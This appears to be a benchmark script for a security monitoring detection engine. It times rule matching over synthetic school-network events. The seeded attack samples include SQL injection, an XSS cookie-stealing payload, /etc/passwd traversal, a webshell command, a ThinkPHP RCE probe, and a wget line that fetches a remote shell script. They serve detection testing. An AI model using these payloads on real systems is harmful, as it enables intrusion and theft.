#!/usr/bin/env python3
"""Detection throughput on one core: the indexed engine against trying every rule on every event.

    .venv/bin/python bench/detect_eps.py [--events 100000] [--corpus ../shared/corpora/sigma] [--repeat 3]

Rules: the campus pack, every corpus rule that compiles under the production ``ecs`` pipeline,
and every other corpus rule compiled under ``none`` (Sigma's own field names: Linux, auditd,
Zeek, network devices — rules a SOC loads for sources it may add later). Events: a
deterministic, realistic mix of what edusoc's sensors produce — flows, DNS, access-log and
carved HTTP requests, TLS, SSH — with a few percent of attacks (SQL injection, XSS, traversal,
scanners, webshells, DNS tunnelling, port scans), plus Linux process records in Sigma's names
(``event.dataset`` linux.process_creation).

The reference is the naive engine (``DetectionEngine(prefilter=False)``: every compiled rule's
whole predicate — its log source, then its detection — tried on every event) over the same
stream in the same run; the two alert lists must be identical. The indexed engine picks each
event's rules by its dataset (log source) and then by the prefilter index (exact values,
Aho-Corasick literals, field presence). Times are CPU time of this process; with ``--repeat N``
each engine runs N times from fresh state, alternating, and the best time of each is reported
(one run of the indexed engine lasts about a second, so a single run moves by ±5 %).
Ends with one JSON line.
"""
from __future__ import annotations

import argparse
import gc
import json
import os
import random
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from detection_rules import BUNDLED_RULES, DetectionEngine, RuleSet, load_ruleset  # noqa: E402
from soc_core.events import stable_event_id, timestamp_from_epoch  # noqa: E402

T0 = 1_793_581_200.0
SCHOOLS = [f"DEMO-SCHOOL-{n}" for n in range(1, 21)]
PAGES = ["/", "/index.php", "/news/list.php", "/news/show.php", "/static/css/site.css", "/static/js/jquery.min.js",
         "/static/img/banner.jpg", "/favicon.ico", "/login.php", "/teacher/grades.aspx", "/student/timetable.jsp",
         "/api/v1/notice", "/search.php", "/upload/avatar.png", "/library/catalog"]
QUERIES = ["", "", "", "id=1024", "page=2&size=20", "q=%E6%95%99%E5%AD%A6%E8%AE%A1%E5%88%92", "cat=news&id=77",
           "lang=zh-CN", "term=2026-1&class=3", "keyword=math+exam", "ts=1793581200", "from=wechat&share=1"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.43",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 13; M2012K11AC) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0 Mobile Safari/537.36",
]
ATTACKS = [
    ("/news/show.php", "id=1%27%20union%20select%201,2,database()--", AGENTS[0]),
    ("/search.php", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", AGENTS[0]),
    ("/download.php", "file=../../../../etc/passwd", "curl/8.4.0"),
    ("/admin/login.php", "", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("/uploads/2026/shell.php", "cmd=whoami", "python-requests/2.31"),
    ("/index.php", "s=/index/\\think\\app/invokefunction&function=call_user_func_array", "Mozilla/5.0 zgrab/0.x"),
    ("/.env", "", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
]
DOMAINS = ["www.baidu.com", "mp.weixin.qq.com", "www.edu.cn", "res.school-no1.edu.cn", "cdn.jsdelivr.net",
           "dns.msftncsi.com", "time.windows.com", "api.smartedu.cn", "www.gov.cn", "update.microsoft.com"]
LINUX_COMMANDS = ["/usr/bin/ls -la /var/www", "/usr/sbin/sshd -D", "/usr/bin/python3 manage.py runserver",
                  "/bin/bash -c crontab -l", "/usr/bin/wget http://198.51.100.7/x.sh -O /tmp/x.sh", "/usr/bin/id"]


def base(rng: random.Random, n: int, dataset: str) -> dict[str, object]:
    return {
        "@timestamp": timestamp_from_epoch(T0 + n * 0.002),
        "event.id": stable_event_id("bench", n),
        "event.kind": "event",
        "event.dataset": dataset,
        "organization.id": rng.choice(SCHOOLS),
        "source.ip": f"10.{rng.randint(20, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
    }


def web(rng: random.Random, n: int, dataset: str) -> dict[str, object]:
    event = base(rng, n, dataset)
    if rng.random() < 0.03:
        path, query, agent = rng.choice(ATTACKS)
    else:
        path, query, agent = rng.choice(PAGES), rng.choice(QUERIES), rng.choice(AGENTS)
    event.update({
        "destination.ip": "10.20.1.10", "destination.port": 80, "http.request.method": rng.choice(["GET"] * 8 + ["POST"]),
        "http.response.status_code": rng.choice([200] * 12 + [304, 404, 302, 500]),
        "http.response.body.bytes": rng.randint(200, 200_000), "url.domain": "www.school-no1.edu.cn",
        "url.path": path, "url.query": query, "url.original": path + ("?" + query if query else ""),
        "user_agent.original": agent, "http.version": "1.1",
    })
    return event


def flow(rng: random.Random, n: int) -> dict[str, object]:
    event = base(rng, n, "edusoc.flow")
    scanning = rng.random() < 0.02
    event.update({
        "destination.ip": f"10.20.1.{rng.randint(1, 40)}",
        "destination.port": rng.randint(1, 1024) if scanning else rng.choice([80, 443, 443, 443, 53, 22, 3389, 8080, 3306]),
        "network.transport": rng.choice(["tcp"] * 5 + ["udp"]),
        "network.connection.state": "REJ" if scanning else rng.choice(["SF"] * 8 + ["S0", "RSTO", "REJ"]),
        "source.port": rng.randint(1025, 65535), "source.bytes": rng.randint(60, 90_000),
        "destination.bytes": rng.randint(0, 900_000), "source.packets": rng.randint(1, 300), "destination.packets": rng.randint(0, 600),
    })
    return event


def dns(rng: random.Random, n: int) -> dict[str, object]:
    event = base(rng, n, "edusoc.dns")
    if rng.random() < 0.02:
        label = "".join(rng.choice("abcdef0123456789") for _ in range(rng.randint(40, 60)))
        name, qtype = f"{label}.t.example-tunnel.net", "TXT"
    else:
        name, qtype = rng.choice(DOMAINS), rng.choice(["A"] * 6 + ["AAAA", "HTTPS"])
    event.update({"destination.ip": "10.20.0.53", "destination.port": 53, "network.transport": "udp",
                  "dns.question.name": name, "dns.question.type": qtype, "dns.response_code": "NOERROR", "dns.id": n % 65536})
    return event


def tls(rng: random.Random, n: int) -> dict[str, object]:
    event = base(rng, n, "edusoc.tls")
    event.update({"destination.ip": "203.0.113.10", "destination.port": 443, "tls.client.server_name": rng.choice(DOMAINS),
                  "tls.version": "1.3", "tls.client.ja3": f"{rng.getrandbits(128):032x}"})
    return event


def ssh(rng: random.Random, n: int) -> dict[str, object]:
    event = base(rng, n, "edusoc.ssh")
    event.update({"destination.ip": "10.20.1.22", "destination.port": 22, "ssh.client": rng.choice(["SSH-2.0-OpenSSH_9.6", "SSH-2.0-libssh2_1.10.0"]),
                  "ssh.server": "SSH-2.0-OpenSSH_8.9p1", "ssh.version": 2})
    return event


def linux(rng: random.Random, n: int) -> dict[str, object]:
    # a host log in Sigma's own names, its log source said in event.dataset as product.category
    command = rng.choice(LINUX_COMMANDS)
    return {"@timestamp": timestamp_from_epoch(T0 + n * 0.002), "event.id": stable_event_id("bench", n),
            "event.kind": "event", "event.dataset": "linux.process_creation", "Image": command.split()[0],
            "CommandLine": command, "User": rng.choice(["www-data", "root", "teacher"]), "ParentImage": "/bin/bash"}


def make_events(count: int, seed: int = 5) -> list[dict[str, object]]:
    rng = random.Random(seed)
    kinds = [(0.40, lambda n: flow(rng, n)), (0.22, lambda n: dns(rng, n)), (0.20, lambda n: web(rng, n, "edusoc.web")),
             (0.06, lambda n: web(rng, n, "edusoc.http")), (0.05, lambda n: tls(rng, n)), (0.02, lambda n: ssh(rng, n)),
             (0.05, lambda n: linux(rng, n))]
    weights = [weight for weight, _ in kinds]
    makers = [maker for _, maker in kinds]
    return [rng.choices(makers, weights)[0](n) for n in range(count)]


def load_rules(corpus: Path) -> RuleSet:
    """The campus pack and every corpus rule: under ``ecs`` where it maps, else under ``none``."""
    ruleset = load_ruleset([BUNDLED_RULES, corpus / "rules"], pipeline="ecs")
    loaded = {rule.rule_id for rule in ruleset.rules}
    sigma_named = load_ruleset([corpus / "rules"], pipeline="none")
    ruleset.rules.extend(rule for rule in sigma_named.rules if rule.rule_id not in loaded)
    return ruleset


def run(engine: DetectionEngine, events: list[dict[str, object]]) -> tuple[float, list[tuple[str, tuple[str, ...]]]]:
    started = time.process_time()
    alerts = engine.process_many(events)
    elapsed = time.process_time() - started
    return elapsed, [(alert.rule_id, alert.event_ids) for alert in alerts]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=100_000)
    parser.add_argument("--corpus", type=Path, default=ROOT.parent.parent / "shared" / "corpora" / "sigma")
    parser.add_argument("--repeat", type=int, default=3, help="runs of each engine; the best of each is reported")
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})  # one core
    corpus = args.corpus if args.corpus.exists() else ROOT.parent / "shared" / "corpora" / "sigma"
    ruleset = load_rules(corpus)
    single = sum(1 for rule in ruleset.rules if hasattr(rule, "detection"))
    sigma_named = sum(1 for rule in ruleset.rules if getattr(rule, "sigma_named", False))
    events = make_events(args.events)
    print(f"{len(ruleset.rules)} rules ({single} single-event, {sigma_named} of them in Sigma's field names), {len(events)} events")
    # The bench holds its whole input in memory, as a collector streaming batches never does:
    # keep the garbage collector from walking it again and again during both runs alike.
    gc.collect()
    gc.freeze()
    indexed_times, naive_times = [], []
    for attempt in range(max(1, args.repeat)):
        indexed_time, indexed_alerts = run(DetectionEngine(ruleset), events)
        naive_time, naive_alerts = run(DetectionEngine(ruleset, prefilter=False), events)
        assert indexed_alerts == naive_alerts, "the prefilter changed the alerts"
        print(f"run {attempt + 1}: indexed {indexed_time:.3f} s, naive {naive_time:.3f} s, ratio {naive_time / indexed_time:.2f}")
        indexed_times.append(indexed_time)
        naive_times.append(naive_time)
    indexed_time, naive_time = min(indexed_times), min(naive_times)
    value, reference = len(events) / indexed_time, len(events) / naive_time
    print(f"indexed engine: {value:,.0f} events/s ({indexed_time:.2f} s)")
    print(f"naive (every rule on every event): {reference:,.0f} events/s ({naive_time:.2f} s)")
    print(f"identical alerts: {len(indexed_alerts)}")
    print(json.dumps({"bench": "detect_eps", "value": round(value), "unit": "events/s", "reference": round(reference),
                      "ratio": round(value / reference, 2), "repeat": len(indexed_times)}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
